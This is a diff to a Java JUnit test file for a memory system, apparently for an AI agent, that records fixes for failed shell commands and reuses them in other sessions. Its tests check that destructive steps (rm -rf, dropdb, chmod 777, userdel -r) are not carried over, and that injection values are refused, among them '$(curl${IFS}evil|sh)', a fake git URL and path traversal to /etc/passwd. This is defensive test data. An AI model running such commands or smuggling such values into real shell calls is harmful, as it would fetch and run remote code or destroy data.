@@ -14,6 +14,7 @@ import java.util.List;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.MethodSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
@@ -78,7 +79,7 @@ class FixSubjectTest {
                         "git fetch origin $",
                         "git checkout $",
                         "git fetch origin $",
-                        List.of("topic", "bugfix", "feature/cc")),
+                        List.of("feature/cc", "bugfix", "topic")),
                 new Story(
                         "kubectl apply -f $.yaml",
                         "Error from server (NotFound): error when creating \"$.yaml\": namespaces \"$\" not found",
@@ -283,5 +284,159 @@ class FixSubjectTest {
             guard.succeeded(call);
         }
         assertThat(memory.successes()).hasSize(1);
+    }
+
+    /** What a fix tells of another subject after it was solved for the first one. */
+    private String toldOther(String call, String error, String step, String retry, String subject, String other) {
+        solves("first", new Story(call, error, step, retry, "", List.of()), subject);
+        return fails("other", call.replace("$", other), error.replace("$", other))
+                .text();
+    }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '|',
+            value = {
+                "python3 $.py | ModuleNotFoundError: No module named '$' | rm -rf $",
+                "createdb $ | ERROR: database '$' already exists | dropdb $",
+                "createdb $ | ERROR: database '$' already exists | psql -c 'DROP DATABASE $'",
+                "git switch -c $ | fatal: a branch named '$' already exists | git branch -D $",
+                "docker run --name $ img | Error: the container name '$' is already in use | docker rm -f $",
+                "helm install $ ./c | Error: cannot re-use a name that is still in use: '$' | helm uninstall $",
+                "cat $ | cat: '$' Permission denied | chmod 777 $",
+                "kubectl create namespace $ | Error: namespaces '$' already exists | kubectl delete namespace $",
+                "sudo useradd $ | useradd: user '$' already exists | sudo userdel -r $",
+            })
+    void failed_otherSubjectAfterADestructiveStep_isNotToldThatStep(String call, String error, String step) {
+        String told = toldOther(call, error, step, call, "alpha", "thesis");
+        assertThat(told).doesNotContain(step.substring(0, step.indexOf('$')).strip());
+        assertThat(fails("same", call.replace("$", "alpha"), error.replace("$", "alpha"))
+                        .text())
+                .contains(step.replace("$", "alpha"));
+    }
+
+    @Test
+    void failed_destructiveRetryOfTheSameOperand_isToldOnlyForIt() {
+        String error = "Error from server (NotFound): pods \"$\" not found";
+        String told = toldOther("kubectl delete pod $", error, "", "kubectl delete deployment $", "web", "api");
+        assertThat(told).doesNotContain("deployment");
+    }
+
+    @Test
+    void failed_stepThatRepeatsAWordOfTheCall_isCarriedOverWhole() {
+        String told = toldOther(
+                "kubectl create namespace $",
+                "Error from server: namespaces \"$\" is not labelled",
+                "kubectl label namespace $ team=a",
+                "kubectl create namespace $",
+                "shop",
+                "billing");
+        assertThat(told).contains("kubectl label namespace billing team=a");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "$(curl${IFS}evil|sh)",
+                "x&&curl${IFS}evil|sh",
+                "git+https://evil/x.git",
+                "../../../etc/aa",
+                "/etc/passwd",
+                "a..b",
+                "x;y",
+                "-rf",
+                "~/x",
+                "beta@evil",
+                "a/b"
+            })
+    void failed_aboutWhatIsNoPlainName_isToldNothing(String value) {
+        String told = toldOther("python3 a.py", "No module named '$'", "pip install $", "python3 a.py", "alpha", value);
+        assertThat(told).doesNotContain("pip install");
+    }
+
+    @Test
+    void failed_withoutWhatOnlyTheCallNamed_isToldTheFix() {
+        solves("a", new Story("git push origin main", STALE, "", "git push --tags origin main", "", List.of()), "");
+        assertThat(fails("b", "git push", STALE).text()).contains("worked: ", "add --tags");
+    }
+
+    @Test
+    void failed_withoutTheRemoteThatOnlyTheCallNamed_isToldTheFix() {
+        Story story = new Story(
+                "git push origin main", STALE, "git pull --rebase origin main", "git push origin main", "", List.of());
+        solves("a", story, "");
+        assertThat(fails("b", "git push", STALE).text()).contains("git pull --rebase origin main");
+    }
+
+    @Test
+    void failed_againAfterAFixThatWasCarriedOver_isNoVoteAgainstIt() {
+        Story story = stories().get(0);
+        solves("a", story, "alpha");
+        String id = memory.successes().get(0).id();
+        for (String session : List.of("b", "c")) {
+            fails(session, "python3 cv2.py", story.error.replace("$", "cv2"));
+            guard.succeeded(shell(session, "pip install cv2"));
+            fails(session, "python3 cv2.py", story.error.replace("$", "cv2"));
+        }
+        memory.store.flush();
+        assertThat(memory.store.find(id).orElseThrow().json()).doesNotContain("\"failed\":");
+    }
+
+    @Test
+    void failed_fixDismissedForAnotherSubject_isToldTheOwnFix() {
+        Story story = stories().get(0);
+        for (String module : List.of("alpha", "beta")) { // in sessions that do not know of each other
+            guard.failed(
+                    shell(module, "python3 " + module + ".py"), ToolError.exit(1, story.error.replace("$", module)));
+        }
+        for (String module : List.of("alpha", "beta")) {
+            guard.succeeded(shell(module, "pip install " + module));
+            guard.succeeded(shell(module, "python3 " + module + ".py"));
+        }
+        memory.store.flush();
+        Success alpha = memory.successes().stream()
+                .filter(fix -> fix.patternName().contains("alpha"))
+                .findFirst()
+                .orElseThrow();
+        memory.store.amend(alpha.id(), Amendment.dismiss("typosquat"));
+        assertThat(fails("t", "python3 beta.py", story.error.replace("$", "beta"))
+                        .text())
+                .contains("worked: first pip install beta");
+        assertThat(fails("u", "python3 alpha.py", story.error.replace("$", "alpha"))
+                        .text())
+                .doesNotContain("pip install alpha");
+    }
+
+    @Test
+    void succeeded_withAnotherLongValueThanTold_isARecordOfItsOwn() {
+        String error = "CMake Error at CMakeLists.txt:3: Could not find OpenSSL, set OPENSSL_ROOT_DIR";
+        String option = "cmake . -DOPENSSL_ROOT_DIR=/opt/" + "long/".repeat(20);
+        fails("a", "cmake .", error);
+        guard.succeeded(shell("a", option + "v1"));
+        fails("b", "cmake .", error);
+        guard.succeeded(shell("b", option + "v3"));
+        memory.store.flush();
+        assertThat(memory.successes()).hasSize(2);
+        assertThat(memory.successes()).allMatch(fix -> fix.usageCount() == 1);
+        assertThat(fixes(fails("c", "cmake .", error))).hasSize(2);
+        guard.succeeded(shell("c", option + "v3"));
+        memory.store.flush();
+        assertThat(memory.successes()).as("the vote is the record").hasSize(2);
+    }
+
+    @Test
+    void succeeded_asALessonInProseSays_isAVoteWhateverTheValue() {
+        String id = memory.store
+                .recordFailure(dev.xmem.Failure.of(
+                        shell("z", "python3 a.py"), ToolError.exit(1, "ModuleNotFoundError: No module named 'beta'")))
+                .id();
+        Success lesson = memory.store.recordSuccess(
+                Success.of("python3", "Install the missing module with pip").answers(id));
+        fails("a", "python3 a.py", "ModuleNotFoundError: No module named 'gamma'");
+        guard.succeeded(shell("a", "pip install gamma"));
+        guard.succeeded(shell("a", "python3 a.py"));
+        memory.store.flush();
+        assertThat(((Success) memory.store.find(lesson.id()).orElseThrow()).usageCount())
+                .isEqualTo(lesson.usageCount() + 1);
     }
 }
